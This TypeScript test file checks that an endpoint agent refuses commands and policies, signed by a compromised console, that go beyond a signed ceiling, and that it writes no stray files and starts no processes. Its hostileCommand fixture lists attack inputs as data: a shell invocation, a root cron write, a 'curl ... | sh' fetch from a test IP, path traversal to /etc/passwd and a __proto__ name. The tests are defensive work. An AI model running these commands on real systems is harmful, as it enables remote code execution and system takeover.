import { createHash, generateKeyPairSync } from 'node:crypto'
import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { dirname, join } from 'node:path'
import {
  type Command,
  CommandSchema,
  type Envelope,
  type Fact,
  type Policy,
  type SentCeiling,
  signEnvelope,
} from '@shoukou/protocol'
import { describe, expect, it } from 'vitest'
import {
  fullSettings,
  HOLDERS,
  makeHolder,
  policyWith,
  signedBy,
  testCeiling,
} from '../../protocol/ceiling/fixtures/test-ceiling.ts'
import { NARROWINGS, randomFrom, WIDENINGS } from '../../protocol/ceiling/fixtures/widenings.ts'
import { stateFolder } from '../base/state-folder.ts'
import { takeCommands } from '../bundle/take-orders.ts'
import { makeFolderForTest } from '../testing/journal-bench.ts'
import { startLinkBench } from '../testing/link-bench.ts'
import { makeTestAuthority } from '../testing/test-authority.ts'
import { testAgent } from '../testing/test-facts.ts'
import { writeCeiling } from './ceiling-store.ts'
import { CommandStore } from './command-store.ts'
import { PolicyStore, writePolicy } from './policy-store.ts'

/**
 * Why each command can neither run a program of the console's choosing nor write a file of its choosing. A command that is
 * added has to be given its row, by somebody who has looked.
 */
const harmless: Readonly<Record<Command['name'], string>> = {
  rescan: 'carries nothing; sensors look again at what is there',
  'grant-medium': 'names a stay of a medium, one of two rights and minutes; nothing is opened or started',
  'end-grant': 'names a stay; a right ends',
  'write-seal':
    'writes a seal whose signature was checked onto the medium that it is of, into the slot for it, at a station alone; no path is named',
  isolate: 'carries a reason, which is text in a record; packets are refused',
  'end-isolation': 'carries a reason; packets are judged by policy again',
}

describe('the commands that an agent accepts', () => {
  it('are a closed set, each with the reason why it can do no more', () => {
    const names = CommandSchema.anyOf.map((one) => one.properties.name.const)
    expect(Object.keys(harmless).toSorted()).toEqual(names.toSorted())
  })

  it('carry no field that could be a program, a path or a web address', () => {
    const allowed = [
      'v',
      'id',
      'agent',
      'issuedAtMs',
      'name',
      'instance',
      'right',
      'minutes',
      'seal',
      'reason',
    ]
    for (const one of CommandSchema.anyOf) {
      expect(allowed).toEqual(expect.arrayContaining(Object.keys(one.properties)))
      expect((one as { additionalProperties?: boolean }).additionalProperties).toBe(false)
    }
  })
})

describe('a console that was taken over: it holds the daily key, and no ceiling key', () => {
  it('gets nothing accepted that is beyond the ceiling, writes no file elsewhere, and starts nothing', async () => {
    const { policy, commands, sign, root } = await openStores()
    // The folder around the state folder too: nothing appears beside it.
    const around = dirname(root)
    const before = await treeOf(around)
    const random = randomFrom(20_260_201)
    const widenings = Object.values(WIDENINGS)
    const [seen, refused] = [
      { policies: 0, commands: 0 },
      { policies: 0, commands: 0 },
    ]
    for (let round = 0; round < 1_200; round += 1) {
      let settings = fullSettings()
      for (const narrow of NARROWINGS) if (random() < 0.2) settings = narrow(settings, random)
      const widened = widenings[round % widenings.length]?.(settings, random) ?? settings
      if (JSON.stringify(widened) === JSON.stringify(settings)) continue
      seen.policies += 1
      const envelope = sign('policy', policyWith(widened, { agent: testAgent, version: 1_000 + round }))
      const verdict = await policy.take(envelope)
      if (verdict.kind === 'refused' && verdict.reason === 'beyond-ceiling') refused.policies += 1
    }
    for (let round = 0; round < 600; round += 1) {
      const { version, ...command } = hostileCommand(round, random)
      seen.commands += 1
      const verdict = await commands.take(sign('command', { ...command, v: version }))
      if (verdict.kind === 'refused') refused.commands += 1
    }
    expect(seen.policies).toBeGreaterThan(1_000)
    expect(refused).toEqual(seen)
    expect(policy.current.version).toBe(1)
    expect(await treeOf(around)).toEqual(before)
    // libuv keeps a handle for each process that was started.
    expect(process.getActiveResourcesInfo()).not.toContain('ProcessWrap')
  })

  it('brings no ceiling of its own, whatever it signs it with', async () => {
    const { policy, daily } = await openStores()
    const [mine, also] = [makeHolder(), makeHolder()]
    const open = { ...testCeiling([daily.publicKey]), version: 9, network: { within: ['0.0.0.0/0'] } }
    const own = { ...open, keys: [mine, also].map(({ publicKey }) => ({ publicKey, holder: 'x' })) }
    const word = (payload: string) =>
      signEnvelope('first-ceiling', Buffer.from(payload, 'base64'), daily.privateKey).signature
    const tries: [SentCeiling['ceiling'], string][] = [
      [signedBy(own, [mine, also]), 'foreign-keys'],
      [signedBy(open, [HOLDERS[0]]), 'foreign-keys'],
      [{ ...signedBy(open), payload: signedBy(own).payload }, 'foreign-keys'],
      [signedBy(testCeiling([daily.publicKey], { commands: [] })), 'version-reused'],
    ]
    for (const [ceiling, reason] of tries) {
      const { verdict } = await policy.takeCeiling({ ceiling, dailySignature: word(ceiling.payload) })
      expect(verdict).toMatchObject({ kind: 'refused', reason })
    }
    expect(policy.ceiling?.version).toBe(1)
  })

  it('signs nothing with a key that the ceiling does not vouch for, nor with one whose time is over', async () => {
    const { policy, commands, sign, daily } = await openStores()
    const stranger = generateKeyPairSync('ed25519').privateKey
    const good = policyWith(fullSettings(), { agent: testAgent, version: 7 })
    const foreign = signEnvelope('policy', Buffer.from(JSON.stringify(good)), stranger)
    expect(await policy.take(foreign)).toMatchObject({ reason: 'bad-signature' })
    const next = makeHolder()
    const rotated = { ...testCeiling([next.publicKey]), version: 2 }
    await policy.takeCeiling({ ceiling: signedBy(rotated), dailySignature: null })
    expect(await policy.take(sign('policy', good))).toMatchObject({ reason: 'daily-key-not-vouched' })
    const rescan: Command = { v: 1, id: 'r', agent: testAgent, issuedAtMs: 3, name: 'rescan' }
    expect(await commands.take(sign('command', rescan))).toMatchObject({ reason: 'daily-key-not-vouched' })
    // In a package, too, it is told and not done.
    const told: Fact[] = []
    const takers = {
      ...{ policy, commands, onPolicy: () => undefined, carryOut: async () => 'done' },
      tell: async (fact: Fact) => told.push(fact),
    }
    await takeCommands(takers, [sign('command', rescan)])
    expect(told).toMatchObject([{ kind: 'command.done', outcome: 'refused-daily-key-not-vouched' }])
    const byNew = signEnvelope('policy', Buffer.from(JSON.stringify(good)), next.privateKey)
    expect(await policy.take(byNew)).toMatchObject({ kind: 'accepted' })
    expect(policy.sealKeys).toHaveLength(1)
    expect(policy.sealKeys[0]).not.toBe(daily.publicKey)
  })
})

describe('the ceiling on an agent', () => {
  it('is taken when it comes again, where the disk took it and not what says that it did', async () => {
    const { policy, daily, root } = await openStores()
    const { acceptedFile } = stateFolder(root)
    const held = await readFile(acceptedFile)
    const next = {
      ceiling: signedBy({ ...testCeiling([daily.publicKey]), version: 2 }),
      dailySignature: null,
    }
    // A folder in its place: nothing can be written there.
    await rm(acceptedFile)
    await mkdir(join(acceptedFile, 'in-the-way'), { recursive: true })
    await expect(policy.takeCeiling(next)).rejects.toThrow()
    await rm(acceptedFile, { recursive: true })
    await writeFile(acceptedFile, held)
    expect((await policy.takeCeiling(next)).verdict).toMatchObject({
      kind: 'accepted',
      ceiling: { version: 2 },
    })
    expect(JSON.parse(await readFile(acceptedFile, 'utf8'))).toMatchObject({ ceilingVersion: 2 })
    expect((await policy.takeCeiling(next)).verdict).toMatchObject({ kind: 'same' })
  })

  it('lets a command that could not be written down come again, and be done once', async () => {
    const { commands, sign, root } = await openStores()
    const { commandsFile } = stateFolder(root)
    const rescan = sign('command', { v: 1, id: 'r', agent: testAgent, issuedAtMs: 3, name: 'rescan' })
    await mkdir(join(commandsFile, 'in-the-way'), { recursive: true })
    await expect(commands.take(rescan)).rejects.toThrow()
    await rm(commandsFile, { recursive: true })
    expect(await commands.take(rescan)).toMatchObject({ kind: 'accepted' })
    expect(await commands.take(rescan)).toMatchObject({ kind: 'refused', reason: 'replayed' })
  })

  it('holds over a restart, also after the key that signed the policy in force was replaced', async () => {
    const { policy, sign, reopen } = await openStores()
    const good = policyWith(fullSettings(), { agent: testAgent, version: 7 })
    expect(await policy.take(sign('policy', good))).toMatchObject({ kind: 'accepted' })
    const rotated = { ...testCeiling([makeHolder().publicKey]), version: 2 }
    const { verdict } = await policy.takeCeiling({ ceiling: signedBy(rotated), dailySignature: null })
    expect(verdict.kind).toBe('accepted')
    const again = await reopen()
    expect([again.current.version, again.ceiling?.version]).toEqual([7, 2])
    const after = policyWith(fullSettings(), { agent: testAgent, version: 8 })
    expect(await again.take(sign('policy', after))).toMatchObject({ reason: 'daily-key-not-vouched' })
  })

  it('narrows the policy in force where a narrower one comes, and never loosens it', async () => {
    const { policy, sign, daily, reopen } = await openStores()
    await policy.take(sign('policy', policyWith(fullSettings(), { agent: testAgent, version: 7 })))
    const base = testCeiling([daily.publicKey])
    const narrow = { ...base, version: 2, network: { within: ['10.1.2.0/24'] } }
    const { beyond } = await policy.takeCeiling({ ceiling: signedBy(narrow), dailySignature: null })
    expect(beyond.map(({ field }) => field)).toContain('settings.network.prefixes.0')
    for (const store of [policy, await reopen()]) {
      expect(store.current.version).toBe(7)
      expect(store.current.settings.network).toMatchObject({
        prefixes: [],
        gateways: [],
        dnsServers: [],
        destinations: [{ prefix: '10.1.2.0/24' }],
      })
    }
    // A wider one again gives back what the policy says, and no more.
    await policy.takeCeiling({ ceiling: signedBy({ ...base, version: 3 }), dailySignature: null })
    expect(policy.current.settings).toEqual(fullSettings())
  })

  it('is not gone without where its file is gone', async () => {
    const { root, reopen } = await openStores()
    await rm(stateFolder(root).ceilingFile)
    await expect(reopen()).rejects.toMatchObject({ code: 'ceiling-refused' })
  })

  it('is taken over the link by an agent without one, told, and held to from then on', async () => {
    const { authority, console: peer, policy, carriedOut } = await startLinkBench()
    await expect.poll(() => peer.heartbeats, wait).toBeGreaterThan(0)
    expect(peer.hellos[0]?.ceilingVersion).toBe(0)
    const { publicKey, privateKey } = authority.policyKey
    const ceiling = signedBy(testCeiling([publicKey]))
    const send = (dailySignature: string | null) =>
      peer.send({ v: 1, type: 'ceiling', sent: { ceiling, dailySignature } })
    send(null)
    send(signEnvelope('first-ceiling', Buffer.from(ceiling.payload, 'base64'), privateKey).signature)
    const grant: Command = {
      ...{ v: 1, id: 'g', agent: testAgent, issuedAtMs: 5, name: 'grant-medium' },
      ...{ instance: 'usb:1-1#1', right: 'read-write', minutes: 10 },
    }
    peer.send({
      v: 1,
      type: 'command',
      envelope: signEnvelope('command', Buffer.from(JSON.stringify(grant)), privateKey),
    })
    peer.send({ v: 1, type: 'policy', envelope: authority.policy(testAgent, 3) })
    const told = () =>
      peer.records.flatMap(({ fact }) =>
        fact.kind === 'ceiling.refused' || fact.kind === 'policy.refused'
          ? [`${fact.kind} ${fact.reason}`]
          : fact.kind === 'ceiling.applied'
            ? [`${fact.kind} ${fact.version}`]
            : fact.kind === 'command.done'
              ? [`${fact.name} ${fact.outcome}`]
              : [],
      )
    await expect.poll(told, wait).toEqual([
      'ceiling.refused daily-key-did-not-sign',
      'ceiling.applied 1',
      // The policy of before only observes.
      'policy.refused beyond-ceiling',
      'grant-medium refused-beyond-ceiling',
      'policy.refused beyond-ceiling',
    ])
    expect(carriedOut).toEqual([])
    expect([policy.current.version, policy.current.settings.modes.media]).toEqual([1, 'enforce'])
  })
})

const wait = { timeout: 20_000 }

async function openStores() {
  const authority = await makeTestAuthority()
  const daily = authority.policyKey
  const root = join(await makeFolderForTest(), 'state')
  const places = stateFolder(root)
  const owner = { agent: testAgent, policyKey: daily.publicKey }
  const sign = (kind: Envelope['kind'], value: unknown) =>
    signEnvelope(kind, Buffer.from(JSON.stringify(value)), daily.privateKey)
  const first: Policy = policyWith(fullSettings(), { agent: testAgent, version: 1 })
  await writeCeiling(places, signedBy(testCeiling([daily.publicKey])), 'enrolment')
  await writePolicy(places, sign('policy', first), 1, { ceilingVersion: 1 })
  const reopen = () =>
    PolicyStore.open(
      places,
      owner,
      () => undefined,
      () => 10,
    )
  const policy = await reopen()
  const commands = await CommandStore.open(places, { owner, rules: policy }, () => undefined)
  return { policy, commands, sign, daily, root, reopen }
}

/** Shapes that no schema has, names that do not exist, and orders that are allowed to nobody. */
function hostileCommand(round: number, random: () => number): Record<string, unknown> & { version: number } {
  const base = { version: 1, id: `h${round}`, agent: testAgent, issuedAtMs: 3 }
  const minutes = 61 + Math.floor(random() * 1_300)
  const kinds: Record<string, unknown>[] = [
    { name: 'grant-medium', instance: 'usb:1-1#1', right: 'read-write', minutes: 1 },
    { name: 'grant-medium', instance: 'usb:1-1#1', right: 'read-only', minutes },
    { name: 'run', program: '/bin/sh', arguments: ['-c', 'id'] },
    { name: 'write-file', path: '/etc/cron.d/x', content: '* * * * * root id' },
    { name: 'rescan', script: 'curl http://203.0.113.1/x | sh' },
    { name: 'isolate', reason: 'x', path: '../../etc/passwd' },
    { name: 'update', url: 'https://203.0.113.1/agent.tgz' },
    { name: '__proto__', reason: 'x' },
    { name: 'write-seal', instance: '/dev/sda', seal: { payload: '../x', signature: '' } },
    { name: 'rescan', version: 2 },
    { name: 'rescan', agent: 'another' },
  ]
  return { ...base, ...kinds[round % kinds.length] }
}

/** Each file below a folder with the hash of its content. */
async function treeOf(root: string): Promise<string[]> {
  const found = await readdir(root, { recursive: true, withFileTypes: true })
  const files = found.filter((one) => one.isFile()).map((one) => join(one.parentPath, one.name))
  const hashes = await Promise.all(
    files.map(
      async (file) =>
        `${file} ${createHash('sha256')
          .update(await readFile(file))
          .digest('hex')}`,
    ),
  )
  return hashes.toSorted()
}
